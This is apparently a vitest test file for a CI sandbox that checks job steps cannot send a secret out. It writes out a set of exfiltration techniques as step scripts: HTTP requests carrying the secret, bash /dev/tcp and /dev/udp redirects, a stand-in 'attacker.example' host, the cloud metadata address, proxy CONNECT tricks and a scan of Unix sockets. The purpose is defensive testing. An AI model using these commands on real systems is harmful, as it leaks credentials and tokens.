import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Attacked, canaries, job, type Lab, openLab, stepsOf, withSecret, type Yaml } from './lab.ts';

/*
 * A step with a secret sends it away. Somebody listens on this machine, on loopback and on every other address of it; the same
 * steps without a sandbox reach them, which shows that they would be heard.
 */

const heard: string[] = [];
const http = createServer((request, response) => {
  heard.push(`${request.url} ${JSON.stringify(request.headers)}`);
  request.on('data', (chunk) => heard.push(String(chunk)));
  request.on('end', () => response.end('ok'));
});
const udp = createSocket('udp4', (message) => heard.push(message.toString('latin1')));
let port = 0;
const addresses = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
const outer = addresses.find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1';

beforeAll(async () => {
  await new Promise<void>((done) => http.listen(0, '0.0.0.0', done));
  port = (http.address() as AddressInfo).port;
  await new Promise<void>((done) => udp.bind(port, '0.0.0.0', done));
});
afterAll(() => {
  http.closeAllConnections();
  http.close();
  udp.close();
});

const script = (run: string): Yaml => withSecret('TOKEN', run);
/** With and without the proxy that a step is told of. */
const python = (target: string): string =>
  `python3 - <<'P'\nimport os, urllib.request as u\nfor opener in (u.build_opener(), u.build_opener(u.ProxyHandler({}))):\n  try: print('reached', opener.open("${target}".replace("SECRET", os.environ["S"]), timeout=3).status)\n  except Exception as error: print('failed', type(error).__name__, getattr(error, "code", ""))\nP`;

const WAYS = (): Readonly<Record<string, Yaml>> => ({
  'a request to loopback': script(python(`http://127.0.0.1:${port}/SECRET`)),
  'a request to an address of the host': script(python(`http://${outer}:${port}/SECRET`)),
  'a name that means loopback': script(python(`http://localhost:${port}/SECRET`)),
  'numbers for loopback': script(python(`http://2130706433:${port}/SECRET`)),
  'a socket': script(`(echo "GET /$S HTTP/1.0" && echo) > /dev/tcp/${outer}/${port} && echo reached || echo failed`),
  'a datagram': script(`echo "$S" > /dev/udp/${outer}/${port} && echo sent || echo failed`),
  'a query for a name': script(
    `python3 -c 'import os,socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(os.environ["S"].encode(),("${outer}",${port}))' || echo failed`,
  ),
  'the name of a host': script(python('https://SECRET.attacker.example/')),
  'parts of the name of a host': script(
    python(`http://\${{ '' }}SECRET.127.0.0.1.nip.io:${port}/`.replace(`\${{ '' }}`, '')),
  ),
  'the address of metadata': script(python('http://169.254.169.254/latest/SECRET')),
  'the proxy, by hand': script(
    `exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT ${outer}:${port} HTTP/1.1\\r\\nHost: %s\\r\\nProxy-Authorization: Basic %s\\r\\n\\r\\n' "$S" "$S" >&3 && head -1 <&3 || echo failed`,
  ),
  'the service, as if it were a proxy': script(
    `exec 3<>/dev/tcp/127.0.0.1/41595 && printf 'GET http://${outer}:${port}/%s HTTP/1.1\\r\\nHost: ${outer}:${port}\\r\\nConnection: close\\r\\n\\r\\n' "$S" >&3 && head -1 <&3 || echo failed`,
  ),
  'sockets of the host': script(
    `python3 - <<'P'\nimport socket, glob, itertools, os\nfor path in glob.glob("/run/*.sock") + glob.glob("/var/run/**/*.sock", recursive=True) + [os.path.join(r, f) for r, d, fs in itertools.islice(os.walk("/tmp"), 2000) for f in fs]:\n  try:\n    s = socket.socket(socket.AF_UNIX); s.connect(path); s.send(os.environ["S"].encode()); print("reached", path)\n  except Exception: pass\nprint("failed")\nP`,
  ),
});

describe('a step that sends a secret away', () => {
  let lab: Lab;
  let attacked: Attacked;
  let during: string[];
  let bare: string[];

  beforeAll(async () => {
    const steps = Object.entries(WAYS()).flatMap(([name, step]) => stepsOf(name, [step]));
    lab = openLab({ secrets: canaries(['TOKEN']), jobs: { one: job(...steps) } });
    attacked = await lab.run();
    during = heard.splice(0);
    const control = openLab({ secrets: canaries(['TOKEN']), jobs: { one: job(...steps) } });
    await control.run({ args: ['--unsafe-no-sandbox'] });
    bare = heard.splice(0);
  });

  test.each(Object.keys(WAYS()))('reaches nobody: %s', (name) => {
    expect(attacked.step(name)).not.toMatch(/^reached/m);
    expect(attacked.step(name)).toMatch(/^(?:failed|HTTP\/1\.[01] (?:4|5)\d\d|OSError|Traceback|sent)/m);
  });

  test('and was not heard, though it would have been without the sandbox', () => {
    expect(during).toEqual([]);
    expect(bare.length).toBeGreaterThan(5);
  });

  test('is told of in the events of the run, without what it wanted to send', async () => {
    const events = readFileSync(join(lab.folder, '.sluice/runs', String(attacked.id), 'events.jsonl'), 'utf8');
    const tried = events.split('\n').filter((line) => line.includes('"kind":"connection"'));
    expect(tried.filter((line) => line.includes('"allowed":false')).length).toBeGreaterThan(3);
    expect(tried.join('\n')).toContain('***');
    expect(await lab.leaks(attacked)).toEqual([]);
  });
});

test('addresses of this machine are reached by nobody, whatever the list says', async () => {
  const hosts = ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0'];
  const lab = openLab({
    secrets: canaries(['TOKEN']),
    files: {
      'sluice.yaml': `network: { allow: ${JSON.stringify(hosts.slice(0, 3).map((host) => `${host}:${port}`))} }\n`,
    },
    jobs: { one: job(...hosts.map((host) => script(python(`http://${host}:${port}/SECRET`)))) },
  });
  const { log } = await lab.run();
  expect([log('one').includes('reached'), heard.splice(0)]).toEqual([false, []]);
});
